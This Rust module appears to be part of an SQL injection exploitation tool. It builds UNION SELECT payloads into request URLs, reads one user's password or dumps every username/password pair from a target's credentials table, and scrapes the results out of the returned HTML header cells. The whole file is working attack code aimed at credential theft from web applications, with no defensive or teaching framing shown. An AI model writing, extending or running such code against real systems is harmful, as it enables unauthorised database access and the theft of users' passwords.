//! Value extraction from the credentials table

use crate::error::{Result, TiresiasError};
use crate::http::Oracle;
use crate::logger::Logger;
use crate::models::{CredentialColumns, ExtractedValue, UnionShape};

use super::catalog::Signature;
use super::payload::{self, UnionSelect};
use super::scrape::{self, Matcher};

pub const DEFAULT_SEPARATOR: &str = "~";

/// Selects `columns.password` from `table` for the row whose
/// `columns.username` equals `user`, and reads it from the first header cell.
/// Exactly one injected row is expected.
#[allow(clippy::too_many_arguments)]
pub async fn extract_value(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    table: &str,
    columns: &CredentialColumns,
    user: &str,
) -> Result<String> {
    let query = UnionSelect::for_shape(shape, columns.password.as_str())
        .source(table)
        .filter(payload::equals(&columns.username, user));
    let url = payload::to_url(base, &query.render(base, token));
    log.debug(format!("Reading {} for {user}", columns.password));

    let result = oracle.probe(&url).await?;
    if !result.is_success() {
        return Err(TiresiasError::UnexpectedStatus {
            url,
            status: result.status,
        });
    }

    scrape::first_header(&result.body, &Matcher::Any).map_err(|e| match e {
        TiresiasError::CellNotFound { .. } => TiresiasError::ValueNotFound {
            column: columns.password.clone(),
            value: user.to_string(),
        },
        other => other,
    })
}

/// Joins the username column, a quoted `separator` and the password column with
/// the engine's concatenation operator. A blank operator means the engine joins
/// adjacent operands.
pub fn concatenated(signature: &Signature, columns: &CredentialColumns, separator: &str) -> String {
    let joiner = match signature.concatenation_operator.trim() {
        "" => " ".to_string(),
        op => format!(" {op} "),
    };
    let literal = payload::string_literal(separator);
    [
        columns.username.as_str(),
        literal.as_str(),
        columns.password.as_str(),
    ]
    .join(joiner.as_str())
}

/// Splits `<user><separator><value>` header cells back into rows. Cells without
/// the separator are skipped.
pub fn split_rows(cells: &[String], separator: &str) -> Vec<ExtractedValue> {
    cells
        .iter()
        .filter_map(|cell| cell.split_once(separator))
        .map(|(user, value)| ExtractedValue {
            user: user.to_string(),
            value: value.to_string(),
        })
        .collect()
}

/// Reads every username/password pair of `table` through the single display
/// slot, one concatenated cell per row.
#[allow(clippy::too_many_arguments)]
pub async fn extract_all(
    oracle: &dyn Oracle,
    log: &Logger,
    base: &str,
    token: &str,
    shape: UnionShape,
    signature: &Signature,
    table: &str,
    columns: &CredentialColumns,
    separator: &str,
) -> Result<Vec<ExtractedValue>> {
    let expression = concatenated(signature, columns, separator);
    let query = UnionSelect::for_shape(shape, expression).source(table);
    let url = payload::to_url(base, &query.render(base, token));
    log.debug(format!(
        "Reading all rows of {table} joined with {}",
        signature.concatenation_operator.trim()
    ));

    let result = oracle.probe(&url).await?;
    if !result.is_success() {
        return Err(TiresiasError::UnexpectedStatus {
            url,
            status: result.status,
        });
    }

    let rows = split_rows(&scrape::header_cells(&result.body)?, separator);
    if rows.is_empty() {
        return Err(TiresiasError::CredentialsNotFound {
            table: table.to_string(),
        });
    }
    Ok(rows)
}
